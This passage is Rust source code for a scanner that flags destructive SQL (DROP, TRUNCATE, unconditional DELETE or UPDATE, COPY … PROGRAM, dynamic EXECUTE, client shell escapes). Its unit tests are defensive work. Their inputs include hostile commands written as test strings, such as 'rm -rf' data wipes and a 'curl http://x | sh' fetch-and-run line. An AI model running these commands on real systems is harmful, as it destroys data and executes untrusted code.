        return Vec::new();
    }
    j += 1;
    let mut names = Vec::new();
    for t in &words[j..] {
        match t {
            Tok::Word(w, false, _) if matches!(w.as_str(), "IF" | "EXISTS" | "CASCADE" | "RESTRICT") => {}
            Tok::Word(w, _, _) => names.push(w.clone()),
            Tok::Other(o) if o == "," || o == ";" => {}
            _ => return Vec::new(),
        }
    }
    names
}

/// Classify one candidate statement with sqlparser's tokenizer.
fn classify(dialect: Dialect, text: &str, truncated: bool) -> Classified {
    let mut out = Classified { statements: Vec::new(), unknown: Vec::new(), copy_from_stdin: false };
    let Some(words) = tokens(dialect, text) else {
        // The scanner found a candidate it cannot tokenize: it could destroy something.
        out.unknown.push(format!("a statement could not be read: {}", excerpt(text)));
        return out;
    };
    let kw = |i: usize| match words.get(i) {
        Some(Tok::Word(w, false, _)) => w.as_str(),
        _ => "",
    };
    let has_kw = |k: &str| words.iter().any(|t| matches!(t, Tok::Word(w, false, _) if w == k));
    let name_at = |i: usize| -> Option<String> {
        let mut j = i;
        while matches!(kw(j), "IF" | "EXISTS" | "ONLY" | "TABLE" | "FROM" | "CONCURRENTLY") {
            j += 1;
        }
        let mut name = match words.get(j)? {
            Tok::Word(_, _, raw) => raw.clone(),
            _ => return None,
        };
        // schema.table
        while let (Some(Tok::Other(dot)), Some(Tok::Word(_, _, part))) = (words.get(j + 1), words.get(j + 2)) {
            if dot != "." {
                break;
            }
            name = format!("{name}.{part}");
            j += 2;
        }
        Some(name)
    };
    let push = |out: &mut Classified, kind: StatementKind, object: Option<String>| {
        out.statements.push(Statement { kind, object, text: excerpt(text) });
    };
    match kw(0) {
        "DROP" => {
            let cascade = has_kw("CASCADE");
            match kw(1) {
                "DATABASE" | "KEYSPACE" => push(&mut out, StatementKind::DropDatabase, name_at(2)),
                "TABLE" | "SCHEMA" => push(&mut out, StatementKind::Drop, name_at(2)),
                "MATERIALIZED" => {
                    push(&mut out, if cascade { StatementKind::Drop } else { StatementKind::DropOther }, name_at(3))
                }
                "OWNED" => push(&mut out, StatementKind::Drop, name_at(3)),
                _ if cascade => push(&mut out, StatementKind::Drop, name_at(2)),
                _ => push(&mut out, StatementKind::DropOther, name_at(2)),
            }
        }
        "TRUNCATE" => push(&mut out, StatementKind::Truncate, name_at(1)),
        "DELETE" => {
            if where_is_trivial(&words) {
                push(&mut out, StatementKind::DeleteAll, name_at(1));
            } else if truncated {
                out.unknown.push(format!("a DELETE statement is too long to read whole: {}", excerpt(text)));
            }
        }
        "UPDATE" => {
            if where_is_trivial(&words) {
                push(&mut out, StatementKind::UpdateAll, name_at(1));
            } else if truncated {
                out.unknown.push(format!("an UPDATE statement is too long to read whole: {}", excerpt(text)));
            }
        }
        "ALTER" if kw(1) == "TABLE" => {
            // `DROP COLUMN`, `DROP col`, and `DROP PARTITION` (MySQL, ClickHouse: the
            // partition's rows go with it); not constraints, defaults or indexes.
            let drops_data = words.windows(2).any(|w| {
                matches!(&w[0], Tok::Word(k, false, _) if k == "DROP")
                    && !matches!(&w[1], Tok::Word(k, false, _) if matches!(k.as_str(), "CONSTRAINT" | "DEFAULT" | "NOT" | "IDENTITY" | "EXPRESSION" | "INDEX" | "PRIMARY" | "FOREIGN" | "KEY" | "CHECK"))
            });
            if drops_data {
                push(&mut out, StatementKind::AlterDrop, name_at(2));
            }
            // ClickHouse mutations: `ALTER TABLE t [ON CLUSTER c] DELETE WHERE …` and
            // `… UPDATE col = x WHERE …` (not a foreign key's `ON DELETE`/`ON UPDATE`).
            for (i, t) in words.iter().enumerate() {
                let after_on = i > 0 && is_kw(words.get(i - 1), "ON");
                let kind = match t {
                    Tok::Word(k, false, _) if k == "DELETE" && !after_on && is_kw(words.get(i + 1), "WHERE") => {
                        StatementKind::DeleteAll
                    }
                    Tok::Word(k, false, _) if k == "UPDATE" && !after_on => StatementKind::UpdateAll,
                    _ => continue,
                };
                if where_is_trivial(&words[i..]) {
                    push(&mut out, kind, name_at(2));
                }
                break;
            }
        }
        "DO" => {
            for t in &words {
                if let Tok::Body(body) | Tok::Str(body) = t {
                    plpgsql(body, &mut out);
                }
            }
        }
        "COPY" if has_kw("PROGRAM") => {
            // `COPY … TO|FROM PROGRAM 'cmd'`: the server runs a shell command.
            let cmd = words.iter().find_map(|t| if let Tok::Str(s) = t { Some(s.clone()) } else { None });
            push(&mut out, StatementKind::CopyProgram, cmd);
        }
        "COPY" => out.copy_from_stdin = has_kw("STDIN") && has_kw("FROM"),
        "EXPLAIN" => {
            // `EXPLAIN ANALYZE stmt` / `EXPLAIN (ANALYZE[, …]) stmt` runs the statement.
            let inner = words.iter().position(|t| {
                matches!(t, Tok::Word(k, false, _) if matches!(k.as_str(), "DELETE" | "UPDATE" | "INSERT" | "MERGE" | "WITH" | "SELECT" | "CREATE" | "EXECUTE"))
            });
            if let Some(i) =
                inner.filter(|&i| words[1..i].iter().any(|t| is_kw(Some(t), "ANALYZE") || is_kw(Some(t), "ANALYSE")))
            {
                let options = &words[1..i];
                let off = options.windows(2).any(|w| {
                    (is_kw(Some(&w[0]), "ANALYZE") || is_kw(Some(&w[0]), "ANALYSE"))
                        && matches!(&w[1], Tok::Word(k, false, _) if matches!(k.as_str(), "FALSE" | "OFF" | "0"))
                });
                if !off {
                    let inner = classify(dialect, &untokenize(&words[i..]), truncated);
                    out.statements.extend(inner.statements);
                    out.unknown.extend(inner.unknown);
                }
            }
        }
        // `MERGE … WHEN MATCHED [AND …] THEN DELETE` deletes every matched row.
        "MERGE" if words.windows(2).any(|w| is_kw(Some(&w[0]), "THEN") && is_kw(Some(&w[1]), "DELETE")) => {
            push(&mut out, StatementKind::MergeDelete, name_at(2));
        }
        "RESET" if matches!(kw(1), "MASTER" | "BINARY") => push(&mut out, StatementKind::Reset, None),
        // SQLite `ATTACH 'file' AS x`: the session reaches another database file.
        "ATTACH" if dialect == Dialect::Sqlite => push(&mut out, StatementKind::Attach, None),
        "WITH" => {
            // The main statement after the CTEs: `WITH x AS (…) DELETE FROM t`.
            let mut depth = 0i32;
            for (i, t) in words.iter().enumerate() {
                match t {
                    Tok::Other(p) if p == "(" => depth += 1,
                    Tok::Other(p) if p == ")" => depth -= 1,
                    Tok::Word(k, false, _)
                        if depth == 0 && i > 0 && matches!(k.as_str(), "DELETE" | "UPDATE" | "MERGE" | "TRUNCATE") =>
                    {
                        let inner = classify(dialect, &untokenize(&words[i..]), truncated);
                        out.statements.extend(inner.statements);
                        out.unknown.extend(inner.unknown);
                        break;
                    }
                    _ => {}
                }
            }
            // A data-modifying CTE: `WITH x AS (DELETE FROM t RETURNING *) …`.
            for (i, t) in words.iter().enumerate() {
                if matches!(t, Tok::Word(k, false, _) if k == "DELETE" || k == "UPDATE")
                    && matches!(words.get(i.wrapping_sub(1)), Some(Tok::Other(p)) if p == "(")
                {
                    let inner = &words[i..];
                    let trivially_all = !inner
                        .iter()
                        .take_while(|t| !matches!(t, Tok::Other(p) if p == ")"))
                        .any(|t| matches!(t, Tok::Word(k, false, _) if k == "WHERE"));
                    if trivially_all {
                        push(
                            &mut out,
                            if matches!(t, Tok::Word(k, _, _) if k == "DELETE") {
                                StatementKind::DeleteAll
                            } else {
                                StatementKind::UpdateAll
                            },
                            None,
                        );
                    }
                }
            }
        }
        _ => {}
    }
    out
}

#[derive(Debug, Clone)]
enum Tok {
    /// Upper-cased value, quoted?, raw value.
    Word(String, bool, String),
    Body(String),
    Str(String),
    Other(String),
}

/// No WHERE, or a WHERE that is always true (`WHERE true`, `WHERE 1=1`).
fn where_is_trivial(words: &[Tok]) -> bool {
    let Some(i) = words.iter().position(|t| matches!(t, Tok::Word(k, false, _) if k == "WHERE")) else {
        return true;
    };
    let rest: Vec<String> = words[i + 1..]
        .iter()
        .take(4)
        .map(|t| match t {
            Tok::Word(k, _, _) => k.clone(),
            Tok::Other(o) => o.clone(),
            Tok::Str(s) => format!("'{s}'"),
            Tok::Body(_) => "$$".into(),
        })
        .collect();
    let rest: Vec<&str> = rest.iter().map(String::as_str).collect();
    matches!(
        rest.as_slice(),
        ["TRUE"] | ["TRUE", ";"] | ["1", "=", "1"] | ["1", "=", "1", ";"] | ["'1'", "=", "'1'"] | ["1"]
    )
}

/// PL/pgSQL words that end one statement and start the next without a semicolon.
const PLPGSQL_BREAKS: &[&str] = &["BEGIN", "DECLARE", "THEN", "ELSE", "ELSIF", "LOOP", "EXCEPTION", "END"];

/// A PL/pgSQL body run by `DO`: its statements run, and `EXECUTE` runs SQL built at run time.
fn plpgsql(body: &str, out: &mut Classified) {
    match Tokenizer::new(&PostgreSqlDialect {}, body).tokenize() {
        Ok(tokens) => {
            // Split at semicolons and block keywords, then classify each piece as a statement.
            let mut piece = String::new();
            let flush = |piece: &mut String, out: &mut Classified| {
                if !piece.trim().is_empty() {
                    let inner = Scanner::scan(Dialect::Postgres, piece);
                    out.statements.extend(inner.statements);
                    out.unknown.extend(inner.unknown);
                }
                piece.clear();
            };
            for t in &tokens {
                let breaks = match t {
                    Token::SemiColon => true,
                    Token::Word(w) => {
                        w.quote_style.is_none() && PLPGSQL_BREAKS.contains(&w.value.to_ascii_uppercase().as_str())
                    }
                    _ => false,
                };
                if breaks {
                    flush(&mut piece, out);
                } else {
                    piece.push_str(&t.to_string());
                }
            }
            flush(&mut piece, out);
        }
        Err(_) => {
            let inner = Scanner::scan(Dialect::Postgres, body);
            out.statements.extend(inner.statements);
            out.unknown.extend(inner.unknown);
        }
    }
    let upper = body.to_ascii_uppercase();
    let executes = upper.match_indices("EXECUTE").any(|(i, _)| {
        let before = upper[..i].chars().next_back();
        let after = upper[i + 7..].chars().next();
        !before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
            && !after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
    });
    if executes {
        out.unknown.push("a DO block runs dynamic SQL with EXECUTE; what it runs cannot be known in advance".into());
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(dialect: Dialect, text: &str) -> Vec<String> {
        Scanner::scan(dialect, text).statements.iter().map(|s| s.kind.to_string()).collect()
    }

    fn pg(text: &str) -> Vec<String> {
        kinds(Dialect::Postgres, text)
    }

    #[test]
    fn destructive_statements() {
        assert_eq!(pg("DROP TABLE users;"), ["drop"]);
        assert_eq!(pg("drop table if exists public.users cascade"), ["drop"]);
        assert_eq!(pg("DROP DATABASE shop"), ["drop_database"]);
        assert_eq!(pg("DROP SCHEMA public CASCADE; CREATE SCHEMA public;"), ["drop"]);
        assert_eq!(pg("TRUNCATE orders"), ["truncate"]);
        assert_eq!(pg("DELETE FROM users"), ["delete_all"]);
        assert_eq!(pg("DELETE FROM users WHERE 1=1"), ["delete_all"]);
        assert_eq!(pg("UPDATE users SET admin = true"), ["update_all"]);
        assert_eq!(pg("ALTER TABLE users DROP COLUMN email"), ["alter_drop"]);
        assert_eq!(pg("ALTER TABLE users DROP email"), ["alter_drop"]);
        assert_eq!(pg("DROP OWNED BY app"), ["drop"]);
        let ch = |t: &str| kinds(Dialect::Postgres, t);
        assert_eq!(ch("ALTER TABLE events DELETE WHERE 1"), ["delete_all"]);
        assert_eq!(ch("ALTER TABLE db.events ON CLUSTER main DELETE WHERE true"), ["delete_all"]);
        assert_eq!(ch("ALTER TABLE events UPDATE status = 0 WHERE 1 = 1"), ["update_all"]);
        assert!(ch("ALTER TABLE events DELETE WHERE ts < now() - INTERVAL 30 DAY").is_empty());
        assert!(
            ch("ALTER TABLE o ADD CONSTRAINT fk FOREIGN KEY (u) REFERENCES users(id) ON DELETE CASCADE").is_empty()
        );
        assert!(
            ch("ALTER TABLE o ADD FOREIGN KEY (u) REFERENCES users(id) ON UPDATE CASCADE ON DELETE SET NULL")
                .is_empty()
        );
        assert_eq!(ch("ALTER TABLE sales DROP PARTITION p2019"), ["alter_drop"]);
        assert_eq!(pg("WITH gone AS (DELETE FROM t RETURNING *) SELECT count(*) FROM gone"), ["delete_all"]);
    }

    #[test]
    fn harmless_look_alikes() {
        for text in [
            "SELECT drop_reason FROM orders",
            "DELETE FROM users WHERE id = 3",
            "UPDATE users SET name = 'x' WHERE id = 1",
            "-- DROP TABLE users;\nSELECT 1",
            "/* DROP TABLE users; /* nested */ still comment */ SELECT 1",
            "SELECT 'DROP TABLE users; --'",
            "SELECT $$DROP TABLE users$$",
            "SELECT $fn$ DROP TABLE x; $fn$",
            "CREATE FUNCTION f() RETURNS void AS $$ BEGIN DROP TABLE x; END $$ LANGUAGE plpgsql",
            "INSERT INTO log(msg) VALUES ('truncate orders')",
            "ALTER TABLE users DROP CONSTRAINT users_pkey",
            "SELECT E'it\\'s; DROP TABLE x'",
            "DROP INDEX users_email_idx",
            "SELECT $1, $2 FROM t",
        ] {
            assert!(pg(text).iter().all(|k| k == "drop_other"), "{text}: {:?}", pg(text));
        }
    }

    #[test]
    fn do_blocks_and_meta_commands() {
        assert_eq!(pg("DO $$ BEGIN TRUNCATE audit; END $$;"), ["truncate"]);
        // The mysql client's shell escapes, like psql's `\!` and sqlite3's `.system`.
        for text in ["system rm -rf /srv/data\n", "SELECT 1;\n\\! rm -rf /srv/data\n"] {
            assert!(!Scanner::scan(Dialect::MySql, text).unknown.is_empty(), "{text}");
        }
        assert!(Scanner::scan(Dialect::MySql, "SELECT system_user();").unknown.is_empty());
        let s = Scanner::scan(Dialect::Postgres, "DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$;");
        assert!(!s.unknown.is_empty());
        let s = Scanner::scan(Dialect::Postgres, "SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec\n");
        assert!(!s.unknown.is_empty());
        let s = Scanner::scan(Dialect::Postgres, "\\i drop.sql\n\\ir ./more.sql\nSELECT 1;");
        assert_eq!(
            s.directives,
            [
                Directive::Include { path: "drop.sql".into(), relative: false },
                Directive::Include { path: "./more.sql".into(), relative: true }
            ]
        );
        let s = Scanner::scan(Dialect::Postgres, "\\c prod-db\nDROP TABLE x;");
        assert_eq!(s.directives, [Directive::Connect(vec!["prod-db".into()])]);
        assert_eq!(s.statements.len(), 1);
    }

    #[test]
    fn copy_data_is_not_sql() {
        let dump = "COPY public.t (a) FROM stdin;\nDROP TABLE x;\n\\.\nSELECT 1;\n";
        assert!(pg(dump).is_empty(), "{:?}", pg(dump));
        assert_eq!(pg("COPY t FROM stdin;\n1\n\\.\nDROP TABLE t;"), ["drop"]);
    }

    #[test]
    fn unterminated_is_unknown() {
        assert!(!Scanner::scan(Dialect::Postgres, "SELECT 'oops; DROP TABLE x").unknown.is_empty());
        assert!(!Scanner::scan(Dialect::Postgres, "SELECT $$ never closed").unknown.is_empty());
    }

    #[test]
    fn chunk_boundaries_do_not_matter() {
        let text = "SELECT '--'; /* a */ DO $tag$ BEGIN DELETE FROM t; END $tag$; -- x\nDROP TABLE y; SELECT $$;$$;";
        let whole = Scanner::scan(Dialect::Postgres, text);
        for size in 1..8 {
            let mut s = Scanner::new(Dialect::Postgres);
            for chunk in text.as_bytes().chunks(size) {
                s.feed(chunk);
            }
            assert_eq!(s.finish(), whole, "chunk size {size}");
        }
        assert_eq!(whole.statements.iter().map(|s| s.kind.as_str()).collect::<Vec<_>>(), ["delete_all", "drop"]);
    }

    #[test]
    fn mysql_and_sqlite() {
        assert_eq!(kinds(Dialect::MySql, "# DROP TABLE x\nDROP DATABASE shop;"), ["drop_database"]);
        assert_eq!(kinds(Dialect::MySql, "SELECT 'a\\'; DROP TABLE x'"), Vec::<String>::new());
        let s = Scanner::scan(Dialect::MySql, "source /tmp/reset.sql\nSELECT 1;");
        assert_eq!(s.directives, [Directive::Include { path: "/tmp/reset.sql".into(), relative: false }]);
        let s = Scanner::scan(Dialect::Sqlite, ".read wipe.sql\nDELETE FROM t;");
        assert_eq!(s.directives, [Directive::Include { path: "wipe.sql".into(), relative: false }]);
        assert_eq!(s.statements[0].kind, "delete_all");
        assert_eq!(kinds(Dialect::Sqlite, "SELECT 1.5; .restore main backup.db\n"), Vec::<String>::new());
        assert_eq!(kinds(Dialect::Sqlite, ".restore main backup.db\n"), ["restore"]);
    }

    #[test]
    fn statements_that_run_other_statements() {
        assert_eq!(pg("EXPLAIN ANALYZE DELETE FROM users"), ["delete_all"]);
        assert_eq!(pg("EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET x = 1"), ["update_all"]);
        assert!(pg("EXPLAIN DELETE FROM users").is_empty());
        assert!(pg("EXPLAIN (ANALYZE false) DELETE FROM users").is_empty());
        assert_eq!(pg("WITH old AS (SELECT 1) DELETE FROM users"), ["delete_all"]);
        assert!(pg("WITH ids AS (SELECT id FROM t) DELETE FROM users WHERE id IN (SELECT id FROM ids)").is_empty());
        assert_eq!(pg("MERGE INTO users u USING gone g ON u.id = g.id WHEN MATCHED THEN DELETE"), ["merge_delete"]);
        assert!(pg("MERGE INTO users u USING n ON u.id = n.id WHEN MATCHED THEN UPDATE SET x = 1").is_empty());
        assert_eq!(pg("COPY users TO PROGRAM 'rm -rf /var/lib/postgresql'"), ["copy_program"]);
        assert_eq!(pg("COPY t FROM PROGRAM 'curl http://x | sh'"), ["copy_program"]);
        assert!(pg("COPY users TO '/tmp/users.csv'").is_empty());
    }

    #[test]
    fn definitions_called_in_the_same_input() {
        let f = "CREATE OR REPLACE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN TRUNCATE users; END $$;";
        assert!(pg(f).is_empty(), "defining is not running");
        assert_eq!(pg(&format!("{f} SELECT wipe();")), ["truncate"]);
        assert_eq!(pg(&format!("{f} SELECT * FROM public.wipe();")), ["truncate"]);
        let p = "CREATE PROCEDURE purge() LANGUAGE sql AS $$ DELETE FROM orders $$; CALL purge();";
        assert_eq!(pg(p), ["delete_all"]);
        assert_eq!(pg("PREPARE nuke AS DELETE FROM users; EXECUTE nuke;"), ["delete_all"]);
        assert!(pg("PREPARE q AS SELECT * FROM users WHERE id = $1; EXECUTE q(1);").is_empty());
        let dynamic = "CREATE FUNCTION f() RETURNS void AS $$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $$ LANGUAGE plpgsql; SELECT f();";
        assert!(!Scanner::scan(Dialect::Postgres, dynamic).unknown.is_empty());
    }

    #[test]
    fn temporary_tables_are_the_session_own() {
        assert!(pg("CREATE TEMP TABLE scratch AS SELECT 1; DROP TABLE scratch;").is_empty());
        assert!(
            kinds(Dialect::MySql, "CREATE TEMPORARY TABLE s (id int); DROP TEMPORARY TABLE IF EXISTS s;").is_empty()
        );
        assert_eq!(pg("CREATE TEMP TABLE scratch (id int); DROP TABLE scratch, users;"), ["drop"]);
        assert_eq!(pg("DROP TABLE scratch;"), ["drop"]);
    }

    fn pg_vars(vars: &[(&str, &str)], text: &str) -> Vec<String> {
        let vars: Vec<(String, String)> = vars.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
        let mut s = Scanner::with_session(Dialect::Postgres, Session::with_vars(&vars));
        s.feed(text.as_bytes());
        s.finish().statements.iter().map(|s| s.kind.to_string()).collect()
    }

    #[test]
    fn psql_variables() {
        assert_eq!(pg_vars(&[("q", "DROP TABLE users")], ":q;"), ["drop"]);
        assert_eq!(pg_vars(&[("t", "users")], "TRUNCATE :t;"), ["truncate"]);
        assert_eq!(pg_vars(&[("t", "users")], "DELETE FROM :\"t\";"), ["delete_all"]);
        assert_eq!(pg("\\set q 'DROP TABLE users'\n:q;\n"), ["drop"]);
        assert_eq!(pg("\\set t users\nTRUNCATE :t;\n"), ["truncate"]);
        // Casts, slices and quoted text are not variables.
        assert!(pg_vars(&[("q", "DROP TABLE users")], "SELECT 1::int, ':q', arr[1:2];").is_empty());
        assert!(pg_vars(&[("id", "1")], "DELETE FROM users WHERE id = :id;").is_empty());
        // A value is not interpolated again.
        assert!(pg_vars(&[("a", ":a")], ":a;").is_empty());
    }

    fn my(text: &str) -> Vec<String> {
        kinds(Dialect::MySql, text)
    }

    #[test]
    fn mysql_script_syntax() {
        // Executable comments run.
        assert_eq!(my("/*! DROP TABLE users */;"), ["drop"]);
        assert_eq!(my("/*!50000 TRUNCATE TABLE users */;"), ["truncate"]);
        assert!(my("/* DROP TABLE users */ SELECT 1;").is_empty());
        // `--` is a comment only before whitespace.
        assert!(my("-- DROP TABLE users\nSELECT 1;").is_empty());
        assert_eq!(my("UPDATE t SET x = x--1;"), ["update_all"]);
        // DELIMITER changes where statements end; a procedure runs when called.
        let proc = "DELIMITER $$\nCREATE PROCEDURE wipe() BEGIN DELETE FROM users; END$$\nDELIMITER ;\n";
        assert!(my(proc).is_empty(), "defining is not running");
        assert_eq!(my(&format!("{proc}CALL wipe();\n")), ["delete_all"]);
        assert_eq!(my("DELIMITER //\nDROP TABLE a //\nSELECT 1 //\n"), ["drop"]);
    }
}
